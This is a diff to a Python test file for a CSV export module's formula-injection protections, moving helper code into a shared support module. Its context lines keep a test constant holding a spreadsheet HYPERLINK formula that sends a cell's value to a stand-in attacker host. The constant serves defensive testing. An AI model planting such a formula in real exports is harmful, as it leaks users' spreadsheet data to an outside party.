@@ -18,11 +18,9 @@ from agencies.models import Role
 from network import standards
 from network.csvexport import FORMULA_START, csv_cell, csv_writer
 from network.models import Network, Vocabulary
-from tests.support import agency_url, log_encounter, make_user, open_activation
+from tests.support import ROOT, agency_url, app_modules, log_encounter, make_user, open_activation
 from tests.test_reporting import published
 
-ROOT = Path(__file__).resolve().parent.parent
-NOT_APP_CODE = {".venv", ".data", ".git", "tests", "static", "benchmarks", "templates", "node_modules"}
 THE_WRITER = Path("network/csvexport.py")
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'
@@ -48,13 +46,6 @@ def csv_writer_calls(source: str) -> list[int]:
         ):
             lines.append(node.lineno)
     return lines
-
-
-def app_modules():
-    for path in sorted(ROOT.rglob("*.py")):
-        relative = path.relative_to(ROOT)
-        if relative.parts[0] not in NOT_APP_CODE:
-            yield relative
 
 
 def test_the_writer_detector_finds_every_spelling_of_csv_writer():
